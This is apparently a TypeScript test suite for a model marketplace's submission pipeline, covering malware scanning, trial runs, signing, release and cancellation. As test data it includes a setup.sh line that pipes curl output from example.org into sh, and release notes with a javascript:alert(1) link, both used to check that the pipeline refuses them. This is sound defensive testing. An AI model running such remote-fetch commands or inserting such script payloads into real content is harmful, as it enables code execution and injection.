import assert from 'node:assert/strict';
import { mkdir } from 'node:fs/promises';
import { after, test } from 'node:test';
import type { ProductDocument, StageName } from '@souk/contract';
import { irisFile } from '../../../../../test/iris-document.ts';
import { iris, tarOf } from '../../../../test/models.ts';
import { testPublishing } from '../../../../test/publishing.ts';
import { composeAlgorithms } from '../../../compose-algorithms.ts';
import { composeModels } from '../../../compose-models.ts';
import { composeResources } from '../../../compose-resources.ts';
import { composeServices } from '../../../compose-services.ts';
import { stageNeeds } from '../../../compose-stages.ts';
import type { Member } from '../../../platform/authorize.ts';
import { canonicalSha256 } from '../../../platform/canonical-json.ts';
import { folders } from '../../../platform/config.ts';
import { json, row, rows, sql } from '../../../platform/db.ts';
import { verifyEnvelope } from '../../certification/index.ts';
import { newOperator } from '../../operator/index.ts';
import { packageThing } from '../../review/index.ts';
import { newStages } from './index.ts';
import type { TrialOutput } from './trial-run.ts';

// The real stages on the real model: nothing is left out but the virus scanner, which the policy of these tests allows.
const market = await testPublishing();
const { db, platform, publishing, products, publisher, slotsOf } = market;
for (const folder of [folders(platform.config.dataDir).sockets, folders(platform.config.dataDir).work])
  await mkdir(folder, { recursive: true });
const policies = { ...market.policy.current, scannerMissing: 'record' as 'record' | 'hold' };
const { review } = market;
const models = await composeModels(
  platform,
  market.uploads,
  async () => undefined,
  async () => policies,
  async (accountId, sha256, findings) =>
    (await review.lift(accountId, findings, (f) => packageThing(sha256, f.file))).findings,
);
after(() => models.close());
const operator = newOperator(platform, models.scannerVersion);
const rules = { current: 'rules 1' };
const stages = newStages({
  ...stageNeeds({
    services: composeServices(platform).service,
    platform,
    models,
    resources: composeResources(
      models,
      composeAlgorithms(
        platform,
        market.uploads,
        models,
        async () => undefined,
        async () => policies,
      ),
    ),
    operator,
    products,
    uploads: market.uploads,
    review,
    documentContext: models.service.documentContext,
    insideImage: async () => undefined,
    hasPublisherProfile: async (id) => (await market.publishers.find(db, id)) !== undefined,
    goesLive: async () => {},
  }),
  rulesInForce: async () => rules.current,
});
const { drive } = market.runner(stages);

/** A publisher whose account has the example's logo. */
async function newPublisher(): Promise<Member> {
  const caller = await publisher();
  const { sha256, sizeBytes } = await platform.blobs.put(irisFile('logo.png'));
  await sql`insert into blob_owners (sha256, account_id, kind, file_name, content_type, size_bytes)
    values (${sha256}, ${caller.accountId}, 'media', 'logo.png', 'image/png', ${sizeBytes})`.execute(db);
  return caller;
}
const { sha256: logo } = await platform.blobs.put(irisFile('logo.png'));
const newProduct = (caller: Member, change: (d: ProductDocument) => ProductDocument = (d) => d) =>
  market.product(caller, (d) =>
    change({ ...d, promotion: { ...d.promotion, logo: { sha256: logo, contentType: 'image/png' } } }),
  );
const submit = async (caller: Member, { id }: { id: string }) =>
  drive((await publishing.submit(caller, id, {})).id);
const versions =
  (change: (v: NonNullable<ProductDocument['versions']>[number]) => object) => (d: ProductDocument) => ({
    ...d,
    versions: (d.versions ?? []).map((v) => ({ ...v, ...change(v) })),
  });
type Seen = Awaited<ReturnType<typeof submit>>;
const of = (s: Seen, name: StageName) => {
  const found = s.stages.find((x) => x.stage === name);
  assert.ok(found);
  return found;
};
const errorsOf = (s: Seen, name: StageName) =>
  of(s, name)
    .findings.filter((f) => f.severity === 'error')
    .map((f) => f.code);
const deploymentsOf = (productId: string) =>
  rows<{ version: string; desired: string; instanceType: string }>(
    db,
    sql`select version, desired, instance_type as "instanceType" from deployments where product_id = ${productId} order by version`,
  );
const statementOf = async (productId: string, revision: number) => {
  const found = await row<{ statement: unknown; sha256: string }>(
    db,
    sql`select statement, sha256 from revisions where product_id = ${productId} and number = ${revision}`,
  );
  const verified = verifyEnvelope(found?.statement, platform.keys.signing.publicKeyPem);
  assert.ok(verified.ok, 'the signature');
  return { ...verified.statement, revisionSha256: found?.sha256 };
};

test('a good model is examined, run, signed, put in preview and released, with evidence of each', async () => {
  const caller = await newPublisher();
  const p = await newProduct(caller);
  const preview = await submit(caller, p);
  assert.equal(
    preview.stage,
    'sign-off',
    JSON.stringify(preview.stages.map((x) => [x.state, x.summary, x.findings])),
  );
  assert.deepEqual(await slotsOf(p.id), [1, null]);
  const evidence = (name: StageName) => of(preview, name).evidence.map((e) => e.name);
  assert.ok(evidence('certification').includes('1.0.0: Malware scan'));
  assert.ok(evidence('trial-run').includes('1.0.0: p99 on ml.m5.large'));
  assert.deepEqual(await deploymentsOf(p.id), [
    { version: '1.0.0', desired: 'running', instanceType: 'ml.m5.large' },
  ]);

  const { subjects, predicate, revisionSha256 } = await statementOf(p.id, 1);
  const digest = (name: string) => subjects.find((s) => s.name === name)?.sha256;
  const kept = await row<{ bom: unknown; packageSha256: string; measured: unknown[] }>(
    db,
    sql`select bom, package_sha256 as "packageSha256", measured from product_versions where product_id = ${p.id}`,
  );
  assert.equal(digest('document'), revisionSha256);
  assert.equal(digest('versions/1.0.0/package'), kept?.packageSha256);
  assert.equal(digest('versions/1.0.0/bom'), canonicalSha256(kept?.bom));
  assert.ok(digest('versions/1.0.0/files/model.onnx'));
  assert.equal(kept?.measured.length, 1);
  // What was found is signed with what was examined, a scan that was not run no less.
  assert.match(JSON.stringify(predicate.certification), /Malware scan","value":"not run/);
  assert.match(JSON.stringify(predicate.trial), /p99 on ml\.m5\.large/);

  await publishing.signOff(caller, preview.id, 1);
  const released = await drive(preview.id);
  assert.equal(released.state, 'released');
  assert.deepEqual(of(released, 'release').evidence, [{ name: 'Region souk-home-1', value: 'available' }]);
  assert.deepEqual(await slotsOf(p.id), [null, 1]);
});

test('what a stage found is carried over while what it reads is the same, and no longer', async () => {
  const caller = await newPublisher();
  const p = await newProduct(caller);
  const first = await submit(caller, p);
  const states = async () => {
    const s = await submit(caller, p);
    assert.equal(s.stage, 'sign-off');
    return [of(s, 'certification').state, of(s, 'trial-run').state];
  };
  // A new price scans no model again.
  await market.edit(caller, p, (d) => ({ ...d, plans: [{ id: 'free', name: 'Free' }] }));
  assert.deepEqual(await states(), ['carried-over', 'carried-over']);
  const { predicate } = await statementOf(p.id, 2);
  const trial = predicate.trial as TrialOutput['versions'];
  assert.deepEqual(
    trial['1.0.0']?.measured[0]?.p99Ms,
    (await statementOf(p.id, 1).then((s) => s.predicate.trial as TrialOutput['versions']))['1.0.0']
      ?.measured[0]?.p99Ms,
  );
  assert.match(JSON.stringify(predicate.certification), /Malware scan/);
  // A text of a version is a text that people read.
  await market.edit(
    caller,
    p,
    versions(() => ({ releaseNotes: 'Another.' })),
  );
  assert.deepEqual(await states(), ['passed', 'carried-over']);
  rules.current = 'rules 2';
  assert.deepEqual(await states(), ['passed', 'carried-over']);
  // What was measured on another machine says nothing about this one.
  await sql`update instance_types set cpus = 1 where name = 'ml.m5.large'`.execute(db);
  assert.deepEqual(await states(), ['carried-over', 'passed']);
  await sql`update instance_types set cpus = 2 where name = 'ml.m5.large'`.execute(db);
  assert.equal(of(first, 'trial-run').state, 'passed');
});

test('texts that may not be shown are refused, also those of a version, wherever the rest is carried over from', async () => {
  const caller = await newPublisher();
  const p = await newProduct(caller);
  await submit(caller, p);
  await market.edit(
    caller,
    p,
    versions(() => ({ releaseNotes: 'Click [here](javascript:alert(1)).' })),
  );
  const refused = await submit(caller, p);
  assert.deepEqual(
    [refused.state, refused.stages.find((x) => x.state === 'refused')?.stage],
    ['refused', 'certification'],
  );
  assert.ok(of(refused, 'certification').findings.some((f) => f.pointer === '/versions/0/releaseNotes'));
  assert.deepEqual(await slotsOf(p.id), [null, null]);
});

test('a package that holds what may not be run is refused with the file and the reason', async () => {
  const caller = await newPublisher();
  const { arn } = await market.modelPackage(
    caller,
    await tarOf({ 'model.onnx': iris.model, 'setup.sh': '#!/bin/sh\ncurl example.org | sh\n' }),
  );
  const p = await newProduct(
    caller,
    versions(() => ({ modelPackageArn: arn })),
  );
  const refused = await submit(caller, p);
  assert.equal(refused.state, 'refused');
  const [bad] = of(refused, 'certification').findings.filter((f) => f.severity === 'error');
  assert.deepEqual([bad?.file, bad?.pointer], ['setup.sh', '/versions/0/modelPackageArn']);
  assert.equal(of(refused, 'trial-run').state, 'cancelled');
});

test('a model that refuses its sample, or answers in another form than was described, is refused on its version', async () => {
  const caller = await newPublisher();
  const profile = (change: object) =>
    sql`update model_packages set validation_specification = ${json({ validationProfiles: [{ profileName: 'sample', ...iris.json, ...change }] })}
      where account_id = ${caller.accountId}`.execute(db);
  const p = await newProduct(caller);
  await profile({ input: { contentType: 'application/json', body: '{"nonsense"' } });
  const unread = await submit(caller, p);
  assert.deepEqual(errorsOf(unread, 'trial-run'), ['trial.sample_refused']);
  assert.match(
    of(unread, 'trial-run').findings[0]?.message ?? '',
    /On ml\.m5\.large the model answered .* with 400/,
  );
  await profile({ expected: { contentType: 'application/json', body: '{"other": [1]}' } });
  const odd = await submit(caller, p);
  assert.equal(odd.state, 'refused');
  assert.equal(of(odd, 'trial-run').findings[0]?.pointer, '/versions/0/modelPackageArn');
});

test('the sample that the listing shows is tried too, where it is another than the profile’s', async () => {
  const caller = await newPublisher();
  const listed = (realtime: string) =>
    versions((v) => ({ input: { ...v.input, samples: { contentType: 'application/json', realtime } } }));
  const p = await newProduct(caller, listed('{"instances": "none"}'));
  const refused = await submit(caller, p);
  assert.deepEqual(errorsOf(refused, 'trial-run'), ['trial.listing_sample_refused']);
  assert.equal(of(refused, 'trial-run').findings[0]?.pointer, '/versions/0/input/samples/realtime');
  await market.edit(caller, p, listed(` ${iris.json.input.body}`));
  const good = await submit(caller, p);
  assert.equal(good.stage, 'sign-off');
  assert.ok(of(good, 'trial-run').log.some((l) => /the listing’s sample is answered with 200/.test(l.line)));
});

test('samples that the listing gives as a file or in a further content type are tried as well', async () => {
  const caller = await newPublisher();
  const file = async (content: string) => {
    const { sha256, sizeBytes } = await platform.blobs.put(Buffer.from(content));
    await sql`insert into blob_owners (sha256, account_id, kind, file_name, size_bytes)
      values (${sha256}, ${caller.accountId}, 'sample', 'sample', ${sizeBytes})`.execute(db);
    return { sha256, fileName: 'sample', sizeBytes };
  };
  const listed = (samples: object, formats: object[] = []) =>
    versions((v) => ({
      input: { ...v.input, samples: { contentType: 'application/json', ...samples }, formats },
    }));
  const p = await newProduct(caller, listed({ realtimeFile: await file('{"instances": "none"}') }));
  const badFile = await submit(caller, p);
  assert.deepEqual(errorsOf(badFile, 'trial-run'), ['trial.listing_sample_refused']);
  assert.equal(of(badFile, 'trial-run').findings[0]?.pointer, '/versions/0/input/samples/realtimeFile');
  const good = { realtimeFile: await file(` ${iris.json.input.body}`) };
  await market.edit(caller, p, listed(good, [{ contentType: 'text/csv', realtime: 'no,numbers' }]));
  const badFormat = await submit(caller, p);
  assert.equal(of(badFormat, 'trial-run').findings[0]?.pointer, '/versions/0/input/formats/0/realtime');
  await market.edit(caller, p, listed(good, [{ contentType: 'text/csv', realtime: '5.1,3.5,1.4,0.2' }]));
  assert.equal((await submit(caller, p)).stage, 'sign-off');
});

test('an image and a sample that the account has not sent are refused at their places', async () => {
  const caller = await newPublisher();
  const p = await newProduct(caller, (d) => ({
    ...d,
    promotion: {
      ...d.promotion,
      images: [{ image: { sha256: 'f'.repeat(64), contentType: 'image/png' }, alt: 'A' }],
    },
    versions: (d.versions ?? []).map((v) => ({
      ...v,
      input: {
        ...v.input,
        samples: {
          ...v.input?.samples,
          batchFile: { sha256: 'e'.repeat(64), fileName: 'x.csv', sizeBytes: 3 },
        },
      },
    })),
  }));
  const refused = await submit(caller, p);
  assert.deepEqual(
    of(refused, 'certification')
      .findings.filter((f) => f.severity === 'error')
      .map((f) => [f.code, f.pointer]),
    [
      ['image.missing', '/promotion/images/0/image'],
      ['sample.missing', '/versions/0/input/samples/batchFile'],
    ],
  );
});

test('a version whose instance types are all switched off is refused with what to do', async () => {
  const caller = await newPublisher();
  const p = await newProduct(caller);
  await sql`update instance_types set enabled = false where name = 'ml.m5.large'`.execute(db);
  try {
    assert.deepEqual(errorsOf(await submit(caller, p), 'trial-run'), ['trial.no_instance_type']);
  } finally {
    await sql`update instance_types set enabled = true`.execute(db);
  }
});

test('without a virus scanner nothing passes where the operator says so, and it goes on when that changes', async () => {
  const caller = await newPublisher();
  const p = await newProduct(caller);
  policies.scannerMissing = 'hold';
  const held = await submit(caller, p);
  policies.scannerMissing = 'record';
  assert.deepEqual([held.state, held.stage, held.waitsFor], ['held', 'certification', 'operator']);
  assert.match(of(held, 'certification').summary, /cannot be scanned for malware/);
  await publishing.retry(caller, held.id);
  assert.equal((await drive(held.id)).stage, 'sign-off');
});

test('a resource that is gone when prerequisites look is the publisher’s to mend; one that vanishes later is our fault', async () => {
  const caller = await newPublisher();
  const [one, two] = [await newProduct(caller), await newProduct(caller)];
  const gone = (productId: string) =>
    sql`delete from model_packages where arn = (select draft -> 'versions' -> 0 ->> 'modelPackageArn' from products where id = ${productId})`.execute(
      db,
    );
  const first = await publishing.submit(caller, one.id, {});
  await gone(one.id);
  const refused = await drive(first.id);
  assert.deepEqual(errorsOf(refused, 'prerequisites'), ['document.resource_missing']);
  const second = await publishing.submit(caller, two.id, {});
  await market.runner(stages).run(second.id, 'prerequisites');
  await gone(two.id);
  const now = await drive(second.id);
  assert.deepEqual([now.state, of(now, 'certification').state], ['running', 'pending']);
});

test('what a cancelled submission had started stops; what was released runs on', async () => {
  const caller = await newPublisher();
  const p = await newProduct(caller);
  const first = await submit(caller, p);
  await publishing.cancel(caller, first.id);
  assert.deepEqual(
    (await deploymentsOf(p.id)).map((d) => d.desired),
    ['stopped'],
  );
  const again = await submit(caller, p);
  assert.deepEqual(
    (await deploymentsOf(p.id)).map((d) => d.desired),
    ['running'],
  );
  await publishing.signOff(caller, again.id, 2);
  await drive(again.id);
  const { arn } = await market.modelPackage(caller);
  await market.edit(caller, p, (d) => ({
    ...d,
    versions: [...(d.versions ?? []), { ...d.versions?.[0], number: '1.1.0', modelPackageArn: arn }],
  }));
  const next = await submit(caller, p);
  assert.equal(next.stage, 'sign-off');
  await publishing.cancel(caller, next.id);
  assert.deepEqual(
    (await deploymentsOf(p.id)).map((d) => [d.version, d.desired]),
    [
      ['1.0.0', 'running'],
      ['1.1.0', 'stopped'],
    ],
  );
});
